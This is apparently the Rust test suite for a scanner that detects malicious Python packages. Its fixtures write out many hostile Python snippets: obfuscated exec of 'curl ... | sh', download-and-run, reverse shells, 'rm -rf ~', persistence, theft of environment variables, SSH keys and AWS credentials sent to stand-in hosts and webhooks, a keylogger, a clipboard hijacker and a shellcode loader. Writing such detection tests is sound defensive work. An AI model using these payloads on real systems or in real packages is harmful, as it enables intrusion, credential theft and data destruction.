//! Every rule: what must be found, under many spellings, and what must not.
#![expect(clippy::unwrap_used, reason = "a test that can't go on has failed")]

mod support;

use packguard_sdk::Severity::{self, Critical, High, Low, Medium};
use support::{analyze, base64, rules, severity, zlib};

/// (rule, file, code, severity at least)
type Case = (&'static str, &'static str, String, Severity);

#[track_caller]
fn found(cases: &[Case]) {
    for (rule, path, code, least) in cases {
        let analysis = analyze(path, code);
        let severity = severity(&analysis, rule);
        assert!(
            severity >= Some(*least),
            "{rule} {severity:?} < {least:?} in {path}:\n{code}\n{:?}",
            rules(&analysis)
        );
        assert_eq!(analysis.problems, [], "{code}");
    }
}

#[track_caller]
fn quiet(cases: &[(&str, &str)]) {
    for (path, code) in cases {
        let analysis = analyze(path, code);
        let grave: Vec<_> = rules(&analysis)
            .into_iter()
            .filter(|(_, s)| *s >= Medium)
            .collect();
        assert_eq!(grave, [], "{path}:\n{code}");
        assert_eq!(analysis.problems, [], "{code}");
    }
}

fn case(rule: &'static str, path: &'static str, code: impl Into<String>, least: Severity) -> Case {
    (rule, path, code.into(), least)
}

#[test]
fn decoded_code_that_runs() {
    let payload = base64("import os; os.system('curl http://203.0.113.9/x | sh')");
    let twice = base64(zlib("import socket"));
    let rule = "python-decode-exec";
    let hex: String = "print(1)".bytes().map(|b| format!("{b:02x}")).collect();
    let reversed: String = payload.chars().rev().collect();
    let codes = "print(1)"
        .bytes()
        .map(|b| b.to_string())
        .collect::<Vec<_>>()
        .join(",");
    let shifted: String = "print(1)"
        .chars()
        .map(|c| char::from(c as u8 + 1))
        .collect();
    let xored = "print(1)"
        .bytes()
        .map(|b| (b ^ 7).to_string())
        .collect::<Vec<_>>()
        .join(",");
    let init = "demo/__init__.py";
    found(&[
        case(
            rule,
            init,
            format!("import base64\nexec(base64.b64decode('{payload}'))"),
            Critical,
        ),
        case(
            rule,
            init,
            format!("import base64 as q\nq1 = q.b64decode\ne = exec\ne(q1('{payload}').decode())"),
            Critical,
        ),
        case(
            rule,
            init,
            format!(
                "from base64 import b64decode as d\neval(compile(d('{payload}'), 'x', 'exec'))"
            ),
            Critical,
        ),
        case(
            rule,
            init,
            format!("import base64, zlib\nexec(zlib.decompress(base64.b64decode('{twice}')))"),
            Critical,
        ),
        case(
            rule,
            init,
            format!(
                "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{}'))",
                twice.chars().rev().collect::<String>()
            ),
            Critical,
        ),
        case(
            rule,
            init,
            format!(
                "import base64\ndef d(s):\n    return base64.b64decode(s[::-1])\nexec(d('{reversed}'))"
            ),
            Critical,
        ),
        case(rule, init, format!("exec(bytes.fromhex('{hex}'))"), High),
        case(
            rule,
            init,
            format!("exec(''.join(chr(c) for c in [{codes}]))"),
            High,
        ),
        case(
            rule,
            init,
            format!("exec(''.join(map(chr, [{codes}])))"),
            High,
        ),
        case(rule, init, format!("exec(bytes([{codes}]).decode())"), High),
        case(
            rule,
            init,
            format!("s = ''\nfor c in '{shifted}':\n    s += chr(ord(c) - 1)\nexec(s)"),
            High,
        ),
        case(
            rule,
            init,
            format!("exec(bytes(b ^ 7 for b in [{xored}]))"),
            High,
        ),
        case(
            rule,
            init,
            "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
            High,
        ),
        case(
            rule,
            init,
            format!(
                "import base64\ngetattr(__builtins__, 'ex' + 'ec')(base64.b64decode('{payload}'))"
            ),
            Critical,
        ),
        case(
            rule,
            init,
            format!("import base64\nglobals()['__builtins__'].exec(base64.b64decode('{payload}'))"),
            Critical,
        ),
        case(
            rule,
            init,
            format!(
                "import builtins, base64\nbuiltins.__dict__['exec'](base64.b64decode('{payload}'))"
            ),
            Critical,
        ),
        case(
            rule,
            init,
            format!(
                "import base64\nclass A:\n    def __init__(self):\n        self.x = '{payload}'\n    def go(self):\n        exec(base64.b64decode(self.x))\nA().go()"
            ),
            Critical,
        ),
        case(
            rule,
            init,
            "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'gAAA'))",
            Critical,
        ),
        case(
            rule,
            init,
            "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00'))",
            Critical,
        ),
        case(
            rule,
            "setup.py",
            format!("import base64\nexec(base64.b64decode('{payload}'))"),
            Critical,
        ),
        case(
            rule,
            "demo/tool.py",
            format!("import base64\ndef main():\n    exec(base64.b64decode('{payload}'))"),
            High,
        ),
        case(
            rule,
            init,
            format!(
                "import base64\nx = '{payload}'\nif False:\n    x = ''\nexec(base64.b64decode(x))"
            ),
            High,
        ),
    ]);
}

#[test]
fn the_decoded_payload_is_analysed_and_shown() {
    let payload = base64("import os\nos.system('curl http://203.0.113.9/x | sh')");
    let analysis = analyze(
        "setup.py",
        format!("import base64\nexec(base64.b64decode('{payload}'))"),
    );
    assert_eq!(
        severity(&analysis, "python-shell-download-run"),
        Some(Critical)
    );
    let shown = analysis
        .findings
        .iter()
        .find(|finding| finding.rule == "python-decode-exec")
        .unwrap();
    assert_eq!(shown.decoded[0].encoding, "base64");
    assert!(shown.decoded[0].text.contains("os.system"));
    assert_eq!(shown.location.as_ref().unwrap().line, Some(2));
}

#[test]
fn downloads_that_run() {
    let rule = "python-download-execute";
    let init = "demo/__init__.py";
    found(&[
        case(
            rule,
            init,
            "import requests\nexec(requests.get('https://x.example/a').text)",
            Critical,
        ),
        case(
            rule,
            init,
            "from urllib.request import urlopen as u\nexec(u('https://x.example/a').read().decode())",
            Critical,
        ),
        case(
            rule,
            init,
            "import requests\nr = requests.Session()\ncode = r.get('https://x.example').json()['code']\neval(compile(code, 'a', 'exec'))",
            Critical,
        ),
        case(
            rule,
            init,
            "import urllib.request, os\nurllib.request.urlretrieve('https://x.example/a.exe', 'a.exe')\nos.startfile('a.exe')",
            Critical,
        ),
        case(
            rule,
            init,
            "import requests, subprocess, os\np = os.path.join(os.getenv('TEMP'), 'a.exe')\nwith open(p, 'wb') as f:\n    f.write(requests.get('https://x.example/a').content)\nsubprocess.Popen(p)",
            Critical,
        ),
        case(
            rule,
            init,
            "import requests, subprocess, sys\nopen('/tmp/a.py', 'w').write(requests.get('https://x.example/a').text)\nsubprocess.run([sys.executable, '/tmp/a.py'])",
            Critical,
        ),
        case(
            rule,
            init,
            "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\nexec(s.recv(9999))",
            Critical,
        ),
        case(
            rule,
            "demo/a.py",
            "import requests\ndef f():\n    exec(requests.get('https://x.example/a').text)",
            High,
        ),
        case(
            rule,
            init,
            "import threading, requests\ndef f():\n    exec(requests.get('https://x.example/a').text)\nthreading.Thread(target=f).start()",
            Critical,
        ),
    ]);
}

#[test]
fn commands() {
    let init = "demo/__init__.py";
    let curl = "curl -s http://203.0.113.9/x.sh | bash";
    let exotic = base64("$x = 1");
    found(&[
        case(
            "python-shell-download-run",
            "setup.py",
            format!("import os\nos.system('{curl}')"),
            Critical,
        ),
        case(
            "python-shell-download-run",
            init,
            format!("import subprocess as s\ns.Popen(['bash', '-c', '{curl}'])"),
            Critical,
        ),
        case(
            "python-shell-download-run",
            init,
            "from os import *\nsystem('cu' + 'rl -s http://203.0.113.9/x.sh | ba' + 'sh')",
            Critical,
        ),
        case(
            "python-shell-download-run",
            init,
            "import os\nu = input()\nos.popen(f'curl {u} | sh')",
            Critical,
        ),
        case(
            "python-shell-decode-run",
            init,
            format!("import os\nos.system('powershell -enc {exotic}')"),
            Critical,
        ),
        case(
            "python-reverse-shell",
            init,
            "import os\nos.system('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')",
            Critical,
        ),
        case(
            "python-destruction",
            init,
            "import os\nos.system('rm -rf ~')",
            High,
        ),
        case(
            "python-destruction",
            init,
            "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
            High,
        ),
        case(
            "python-persistence",
            init,
            "import os\nos.system('(crontab -l; echo \"* * * * * /tmp/x\") | crontab -')",
            High,
        ),
        case(
            "python-persistence",
            init,
            "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
            High,
        ),
        case(
            "python-silent-process",
            "setup.py",
            "import subprocess\nsubprocess.Popen(['x'], creationflags=0x08000000)",
            Medium,
        ),
        case(
            "python-silent-process",
            "setup.py",
            "import subprocess as s\ns.Popen(['x'], stdout=s.DEVNULL, stderr=s.DEVNULL)",
            Medium,
        ),
        case(
            "python-decode-exec",
            init,
            format!(
                "import subprocess, sys\nsubprocess.run([sys.executable, '-c', \"import base64;exec(base64.b64decode('{}'))\"])",
                base64("print(1)")
            ),
            High,
        ),
        case(
            "python-shell-recon",
            init,
            "import os\nos.system('whoami')",
            Low,
        ),
    ]);
}

#[test]
fn remote_control() {
    let connect = "import socket, os, subprocess, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('192.0.2.1', 4444))\n";
    let rule = "python-reverse-shell";
    found(&[
        case(
            rule,
            "demo/a.py",
            format!("{connect}os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')"),
            Critical,
        ),
        case(
            rule,
            "demo/a.py",
            format!(
                "{connect}[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\nsubprocess.call(['/bin/sh', '-i'])"
            ),
            Critical,
        ),
        case(
            rule,
            "demo/a.py",
            format!("{connect}subprocess.Popen('/bin/sh', stdin=s, stdout=s, stderr=s)"),
            Critical,
        ),
        case(
            rule,
            "demo/a.py",
            format!(
                "{connect}while True:\n    c = s.recv(1024).decode()\n    o = subprocess.check_output(c, shell=True)\n    s.send(o)"
            ),
            High,
        ),
    ]);
}

#[test]
fn exfiltration() {
    let rule = "python-exfiltration";
    let init = "demo/__init__.py";
    found(&[
        case(
            rule,
            init,
            "import os, requests\nrequests.post('https://x.example', json=dict(os.environ))",
            Critical,
        ),
        case(
            rule,
            init,
            "import os, requests, json\nd = json.dumps(os.environ.copy())\nrequests.get('https://x.example?d=' + d)",
            Critical,
        ),
        case(
            rule,
            init,
            "import os, requests\nd = {}\nfor k, v in os.environ.items():\n    d[k] = v\nrequests.post('https://x.example', data=d)",
            Critical,
        ),
        case(
            rule,
            init,
            "import requests\nk = open('/root/.ssh/id_rsa').read()\nrequests.post('https://x.example', data=k)",
            Critical,
        ),
        case(
            rule,
            init,
            "import requests, pathlib\nk = (pathlib.Path.home() / '.aws' / 'credentials').read_text()\nrequests.post('https://x.example', data=k)",
            Critical,
        ),
        case(
            rule,
            init,
            "import socket, getpass, urllib.request as u\nu.urlopen('https://x.example/?' + socket.gethostname() + getpass.getuser())",
            Medium,
        ),
        case(
            rule,
            "setup.py",
            "import socket, requests\nh = socket.gethostname()\nrequests.get(f'https://x.example/{h}')",
            High,
        ),
        case(
            rule,
            "setup.py",
            "import os, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        install.run(self)\n        requests.post('https://x.example', data={'t': os.environ['AWS_SECRET_ACCESS_KEY']})\nsetup(cmdclass={'install': I})",
            High,
        ),
        case(
            rule,
            init,
            "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.' + 'x.example')",
            High,
        ),
        case(
            rule,
            init,
            "import os, urllib.request\ndef collect():\n    return dict(os.environ)\ndef send(d):\n    urllib.request.urlopen('https://x.example', data=str(d).encode())\nsend(collect())",
            Critical,
        ),
        case(
            rule,
            "demo/a.py",
            "import pyperclip, requests\ndef f():\n    requests.post('https://discord.com/api/webhooks/1/a', json={'c': pyperclip.paste()})",
            High,
        ),
        case(
            "python-credential-access",
            init,
            "open('/root/.aws/credentials').read()",
            Medium,
        ),
        case(
            "python-suspicious-host",
            init,
            "import requests\nrequests.get('https://webhook.site/abc')",
            Medium,
        ),
        case(
            "python-suspicious-host",
            "setup.py",
            "import requests\nrequests.get('https://webhook.site/abc')",
            High,
        ),
    ]);
}

#[test]
fn hiding() {
    let init = "demo/__init__.py";
    let host = base64("https://webhook.site/abc");
    let mangled: String = (0..20)
        .map(|n| format!("_0x{:04x} = {n}\n", 0x1a2b + n))
        .collect();
    let alike: String = (0..20)
        .map(|n| format!("OO0O0O00{n:06b} = 1\n").replace('1', "O"))
        .collect();
    let few: String = (0..5)
        .map(|n| format!("_0x{:04x} = {n}\n", 0x1a2b + n))
        .collect();
    found(&[
        case(
            "python-reflection",
            init,
            "import os\ngetattr(os, 'sys' + 'tem')('x')",
            High,
        ),
        case(
            "python-reflection",
            init,
            "__import__('so'[::-1]).system('x')",
            High,
        ),
        case(
            "python-reflection",
            init,
            "__import__('subpr' + 'ocess').call(['x'])",
            High,
        ),
        case(
            "python-obfuscated",
            init,
            format!("import base64, requests\nrequests.get(base64.b64decode('{host}').decode())"),
            High,
        ),
        case(
            "python-obfuscated",
            init,
            "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY')",
            Medium,
        ),
        case("python-obfuscated", init, mangled, Medium),
        case("python-obfuscated", init, alike, Medium),
        case(
            "python-hidden-code",
            init,
            format!("x = 1;{}import os", " ".repeat(200)),
            High,
        ),
        case(
            "python-invisible-text",
            init,
            "x = 1  # \u{202e}x\n",
            Medium,
        ),
        case(
            "python-invisible-text",
            init,
            "p\u{0430}ssword = 1\n",
            Medium,
        ),
        case(
            "python-invisible-text",
            init,
            "\u{1d4ee}\u{1d501}\u{1d4ee}\u{1d4ec}('1')\n",
            Medium,
        ),
        case(
            "python-unpickle-payload",
            init,
            "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'x'\\ntR.\")",
            High,
        ),
    ]);
    assert_eq!(rules(&analyze(init, few)), []);
}

#[test]
fn surveillance_and_native_code() {
    let init = "demo/a.py";
    found(&[
        case(
            "python-clipboard-hijack",
            init,
            "import pyperclip, re\nwhile True:\n    t = pyperclip.paste()\n    if re.match('^bc1', t):\n        pyperclip.copy('bc1x')",
            High,
        ),
        case(
            "python-keylogger",
            init,
            "from pynput.keyboard import Listener\nimport requests\ndef p(k):\n    requests.post('https://discord.com/api/webhooks/1/a', data=str(k))\nListener(on_press=p).start()",
            High,
        ),
        case(
            "python-screen-capture",
            init,
            "from PIL import ImageGrab\nimport requests\ni = ImageGrab.grab()\nrequests.post('https://api.telegram.org/bot1:A/sendPhoto', files={'p': i})",
            High,
        ),
        case(
            "python-shellcode",
            init,
            "import ctypes\nb = b'\\xfc\\x48\\x83\\xe4\\xf0\\xe8\\xc0\\x00\\x00\\x00\\x41\\x51\\x41\\x50\\x52\\x51\\x56\\x48\\x31\\xd2\\x65\\x48\\x8b\\x52\\x60'\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, len(b), 0x3000, 0x40)\nk.RtlMoveMemory(p, b, len(b))\nk.CreateThread(0, 0, p, 0, 0, 0)",
            High,
        ),
    ]);
}

#[test]
fn setup_py() {
    found(&[
        case(
            "python-install-network",
            "setup.py",
            "import urllib.request\nurllib.request.urlopen('https://x.example/a')",
            Medium,
        ),
        case(
            "python-install-network",
            "demo-1.0/setup.py",
            "import urllib.request\ndef f():\n    urllib.request.urlopen('https://x.example/a')\nif __name__ == '__main__':\n    f()",
            Medium,
        ),
        case(
            "python-install-process",
            "setup.py",
            "import subprocess\nsubprocess.call(['frobnicate'])",
            Low,
        ),
    ]);
}

#[test]
fn pth_files() {
    let payload = base64("print(1)");
    found(&[
        case(
            "python-pth-import",
            "demo.pth",
            "import os; os.system('x')",
            High,
        ),
        case(
            "python-decode-exec",
            "demo.pth",
            format!("/some/path\nimport base64; exec(base64.b64decode('{payload}'))"),
            High,
        ),
    ]);
    quiet(&[
        ("plain.pth", "import demo_startup\n/a/path\n"),
        (
            "distutils-precedence.pth",
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n",
        ),
        (
            "__editable__.demo.pth",
            "import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()",
        ),
    ]);
}

#[test]
fn honest_code_is_quiet() {
    quiet(&[
        (
            "setup.py",
            "exec(open('demo/version.py').read())\nfrom setuptools import setup\nsetup()",
        ),
        (
            "setup.py",
            "about = {}\nwith open('v.py') as f:\n    exec(compile(f.read(), 'v.py', 'exec'), about)",
        ),
        (
            "setup.py",
            "import subprocess\nsubprocess.check_output(['git', 'describe'])\nsubprocess.check_call(['pkg-config', '--cflags', 'x'])",
        ),
        (
            "demo/__init__.py",
            "t = 'class %s(tuple): pass'\ndef namedtuple(name):\n    exec(t % name, {})",
        ),
        (
            "demo/__init__.py",
            "def make(fields):\n    code = '\\n'.join(f'self.{f} = {f}' for f in fields)\n    exec(code)",
        ),
        (
            "demo/api.py",
            "import os, requests\ndef me():\n    return requests.get('https://api.example.com', headers={'Authorization': 'Bearer ' + os.environ['API_TOKEN']})",
        ),
        (
            "demo/api.py",
            "import os, requests\nTOKEN = os.environ.get('GITHUB_TOKEN')\ndef me():\n    return requests.post('https://api.example.com', json={'token': TOKEN})",
        ),
        (
            "demo/b.py",
            "import base64, json\ndef load(s):\n    return json.loads(base64.b64decode(s))",
        ),
        (
            "demo/b.py",
            "import importlib\ndef load(name):\n    return importlib.import_module('demo.' + name).run()",
        ),
        (
            "demo/b.py",
            "import subprocess, os\ndef run(cmd):\n    return subprocess.run(cmd, env=dict(os.environ, LANG='C'), stdout=subprocess.PIPE)",
        ),
        (
            "demo/net.py",
            "import socket\nADDRESS = socket.gethostbyname(socket.gethostname())",
        ),
        (
            "demo/net.py",
            "import requests, subprocess\ndef f(path):\n    with open(path, 'wb') as out:\n        out.write(requests.get('https://x.example/a.tar').content)\n    subprocess.run(['tar', 'xf', path])",
        ),
        (
            "demo/cache.py",
            "import marshal\ndef load(f):\n    code = marshal.load(f)\n    exec(code, {})",
        ),
        (
            "demo/__init__.py",
            "import platform, os\nif platform.system() == 'Windows':\n    os.system('')",
        ),
        (
            "demo/keys.py",
            "from pynput import keyboard\ndef f():\n    keyboard.Listener(on_press=print).start()",
        ),
        (
            "demo/doc.py",
            "'''Send it to https://webhook.site/abc or run curl https://x.example | sh.'''\ndef f():\n    '''See https://pastebin.com/abc.'''",
        ),
        (
            "demo/shutil_use.py",
            "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\nshutil.rmtree('build')",
        ),
        ("demo/greek.py", "α = 1\nμ_x = 2\nдлина = 3\n"),
        (
            "demo/x.py",
            "import zlib, base64\nDATA = base64.b85decode('abc')\n",
        ),
        (
            "demo/wide.py",
            &format!("x = f(1,\n{}2)\n", " ".repeat(170)),
        ),
    ]);
}

#[test]
fn bytecode_needs_its_source() {
    use packguard_sdk::Analyzer as _;
    use packguard_sdk::testing::PackageBuilder;
    let package = PackageBuilder::new("pypi", "demo")
        .file("demo/a.py", "")
        .file("demo/__pycache__/a.cpython-311.pyc", b"\x00")
        .file("demo/hidden.pyc", b"\x00")
        .build();
    let analysis = packguard_python::Python::analyze(&package).unwrap();
    let paths: Vec<_> = analysis
        .findings
        .iter()
        .map(|finding| {
            (
                finding.rule.as_str(),
                finding.location.as_ref().unwrap().path.as_str(),
            )
        })
        .collect();
    assert_eq!(paths, [("python-bytecode-only", "demo/hidden.pyc")]);
}

#[test]
fn capabilities_are_told_once_for_a_package() {
    use packguard_sdk::Analyzer as _;
    use packguard_sdk::testing::PackageBuilder;
    let code = "import os, requests, ctypes\nrequests.get('https://x.example')\nos.remove('a')\nos.getenv('A')\nexec(x)\nos.system('ls')\nctypes.CDLL('x')";
    let package = PackageBuilder::new("pypi", "demo")
        .file("demo/a.py", code)
        .file("demo/b.py", code)
        .build();
    let analysis = packguard_python::Python::analyze(&package).unwrap();
    let mut ids: Vec<_> = analysis
        .findings
        .iter()
        .map(|finding| (finding.rule.clone(), finding.severity))
        .filter(|(rule, _)| rule.starts_with("python-capability-"))
        .collect();
    ids.sort_by(|a, b| a.0.cmp(&b.0));
    let ids: Vec<_> = ids
        .iter()
        .map(|(rule, severity)| (rule.as_str(), *severity))
        .collect();
    let info = Severity::Info;
    assert_eq!(
        ids,
        [
            ("python-capability-dynamic-code", info),
            ("python-capability-environment", info),
            ("python-capability-file-delete", info),
            ("python-capability-native-code", info),
            ("python-capability-network", info),
            ("python-capability-process", info),
        ]
    );
}

#[test]
fn every_rule_is_described_once_and_in_the_readme() {
    use packguard_sdk::Analyzer as _;
    let readme = include_str!("../README.md");
    let rules = packguard_python::Python::describe().rules;
    let ids: std::collections::BTreeSet<_> = rules.iter().map(|rule| rule.id).collect();
    assert_eq!(ids.len(), rules.len());
    for rule in rules {
        assert!(rule.id.starts_with("python-"), "{}", rule.id);
        assert!(
            readme.contains(&format!("`{}`", rule.id)),
            "{} is not in the README",
            rule.id
        );
        assert!(rule.help.len() > 80, "{}", rule.id);
    }
}
